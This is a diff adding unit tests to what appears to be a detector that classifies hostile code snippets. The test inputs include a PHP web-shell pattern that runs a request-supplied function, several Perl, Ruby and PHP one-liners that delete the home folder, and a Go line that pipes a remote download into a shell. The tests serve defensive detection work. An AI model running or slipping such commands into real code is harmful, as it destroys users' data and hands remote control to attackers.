@@ -40,6 +40,29 @@ test('PHP: a request that becomes a command, and packed code', () => {
   assert.deepEqual(kinds("<?php $id = $_GET['id']; echo htmlspecialchars($id);"), []);
 });
 
+test('PHP: a request that names the function that runs', () => {
+  for (const variable of ['$_GET', '$_POST', '$_SERVER', '$_ENV', '$_COOKIE'])
+    assert.ok(
+      kinds(`<?php ${variable}['a'](${variable}['b']);`).some((k) => k.startsWith('opens_channel')),
+      variable,
+    );
+});
+
+test('the home folder, however a language reads it', () => {
+  for (const code of [
+    'unlink glob "$ENV{HOME}/*"',
+    'FileUtils.rm_rf(ENV["HOME"])',
+    'FileUtils.rm_rf(Dir.home)',
+    'd = ENV["HOME"]; system("rm -rf #{d}/*")',
+    'exec("rm -rf " . getenv("HOME"));',
+  ])
+    assert.ok(
+      kinds(code).some((k) => /^deletes ~/.test(k)),
+      code,
+    );
+  assert.ok(!kinds('d = "build"; system("rm -rf #{d}/tmp")').some((k) => k.includes('~')));
+});
+
 test('Go, Perl and Lua: programs and connections', () => {
   assert.ok(
     kinds('cmd := exec.Command("sh", "-c", "curl http://203.0.113.4/x | sh")').includes(
